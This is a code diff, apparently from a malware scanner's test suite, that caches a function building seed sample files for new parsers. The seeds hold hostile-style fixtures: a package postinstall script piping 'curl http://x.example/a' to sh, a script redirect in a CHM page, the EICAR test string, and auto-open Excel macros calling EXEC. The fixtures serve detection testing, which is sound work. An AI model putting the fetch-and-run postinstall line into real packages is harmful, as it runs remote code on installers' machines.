@@ -67,15 +67,20 @@ def pdf_document() -> bytes:
     return buf.getvalue()
 
 
-def new_format_files() -> list[bytes]:
-    """Seeds for the parsers added on 2026-12-01: CHM, xar/UDIF/cpio/pbzx, BIFF8 and XLSB XLM, QR, PDF."""
+@cache
+def new_format_files() -> tuple[bytes, ...]:
+    """Seeds for the parsers added on 2026-12-01: CHM, xar/UDIF/cpio/pbzx, BIFF8 and XLSB XLM, QR, PDF.
+
+    Built once per process, as :func:`files` is: some builders stamp the current time (zip and 7z
+    members, ISO), so a second build is not byte-identical and ``files()`` must hold these very bytes.
+    """
     from analyzers import test_xlm as xlm
     from unpack import builders
 
     pkg_payload = builders.cpio_odc({"./postinstall": b"#!/bin/sh\ncurl http://x.example/a | sh\n"})
     run_cmd = [xlm.biff8_str("cmd /c echo harmless-test") + xlm.biff8_call(xlm.EXEC, 1), xlm.biff8_call(xlm.HALT, 0)]
     xlsb_cell = [xlm.biff12_str("cmd /c echo harmless-test") + struct.pack("<BBH", 0x42, 1, xlm.EXEC)]
-    return [
+    return (
         builders.chm_file({"/index.htm": b"<html><script>location='http://x.example/'</script></html>",
                            "/eicar.com": EICAR}),
         builders.xar_archive({"Scripts": pkg_payload, "Payload": builders.pbzx(pkg_payload)}),
@@ -86,7 +91,7 @@ def new_format_files() -> list[bytes]:
         xlm.xlsb_workbook(xlsb_cell, auto_open=True),
         qr_png(),
         pdf_document(),
-    ]
+    )
 
 
 @cache
